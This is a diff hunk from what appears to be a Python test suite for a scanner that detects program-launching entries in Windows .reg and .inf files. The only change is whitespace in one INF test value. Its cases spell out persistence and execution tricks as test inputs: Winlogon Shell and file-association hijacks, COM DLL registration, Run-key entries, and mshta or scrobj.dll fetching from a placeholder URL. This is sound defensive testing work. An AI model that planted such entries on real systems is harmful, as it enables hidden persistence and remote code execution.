@@ -155,7 +155,7 @@ REGISTRATIONS: dict[str, Case] = {
     "B50 registry file type": ("a.reg", registry("HKEY_CLASSES_ROOT\\txtfile\\shell\\open\\command", '@="\\"C:\\\\a b.exe\\" \\"%1\\""'), ("link-program", '"C:\\a b.exe" "%1"')),
     "B50 registry logon": ("a.reg", registry(_NT + "\\Winlogon", '"Shell"="explorer.exe,a.exe"'), ("link-program", "explorer.exe,a.exe")),
     "B50 registry class": ("a.reg", registry("HKEY_CURRENT_USER\\Software\\Classes\\CLSID\\{0}\\InprocServer32", '@="C:\\\\a.dll"'), ("link-program", "C:\\a.dll")),
-    "B50 inf commands": ("a.inf", inf(f"[DefaultInstall]\nRunPreSetupCommands=a,b:1\n[b]\n{_COMMAND}\n"), _STARTS),
+    "B50 inf commands": ("a.inf", inf(f"[DefaultInstall]\nRunPreSetupCommands=a, b : 1\n[b]\n{_COMMAND}\n"), _STARTS),
     "B50 inf strings": ("a.inf", inf(f"[X]\nRunPostSetupCommands=%s%\n[y]\n%c% %u%\n[Strings]\ns=y\nc=\"mshta\"\nu={URL}\n"), _STARTS),
     "B50 inf libraries": ("a.inf", inf(f"[X]\nRegisterOCXs=a\n[a]\n%11%\\scrobj.dll,NI,{URL}\n"), ("link-program", URL)),
     "B50 inf registry": ("a.inf", inf(f'[X]\nAddReg=a\n[a]\nHKCU,"%k%","a",,"{_COMMAND}"\n[Strings]\nk="Software\\Microsoft\\Windows\\CurrentVersion\\Run"\n'), _STARTS),
